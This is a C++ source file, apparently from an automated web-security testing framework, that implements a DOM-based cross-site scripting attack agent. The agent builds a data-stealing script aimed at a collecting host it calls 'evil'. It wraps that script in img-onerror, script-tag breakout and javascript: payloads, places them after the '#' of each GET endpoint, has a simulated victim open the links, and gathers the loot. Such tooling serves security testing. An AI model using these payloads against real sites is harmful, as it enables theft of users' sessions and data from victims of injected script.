// xss-dom: scripts behind the "#" of a link, which no server is ever sent, and in the query as the
// page's own script reads it: what that puts into the page as HTML, writes or evaluates runs there
// (OWASP DOM based XSS Prevention Cheat Sheet; WSTG-CLNT-01). Escaping on the server is no help.
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/request_writer.h"
#include "core/attack/stored_text.h"
#include "core/http/percent.h"

namespace parapet::attack {
namespace {

class XssDom final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || !victim_signs_in(target)) return;
        std::string const script = taking_script(target, collecting_address(*evil));
        std::vector<std::string> const texts = {"<img src=\"x:\" onerror=" + in_quotes(script) +
                                                    ">",  // a script set as HTML never runs
                                                "\"><script>" + script + "</script>",
                                                "javascript:" + script, script};
        std::size_t links = 0;
        for (Endpoint const* endpoint : endpoints_to_try(target)) {
            if (endpoint->method != "GET") continue;
            std::string const page =
                app_origin(target) + write_request(*endpoint, samples(*endpoint)).target;
            for (std::string const& text : texts) {
                std::string const spelled = http::percent_encode(text, http::PercentSet::Component);
                open(target, page + "#" + spelled);
                for (Parameter const& each : endpoint->parameters)
                    open(target, page + "#" + each.name + "=" + spelled);
                links += 1 + endpoint->parameters.size();
            }
        }
        target.note(std::to_string(links) + " links with a script behind the # were opened.");
        try_loot(target, received_texts(target));
    }

    static void open(Target& target, std::string const& address) {
        target.victim()->opens(address);
        target.victim()->turns_away();
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_dom() { return std::make_unique<XssDom>(); }

}  // namespace parapet::attack
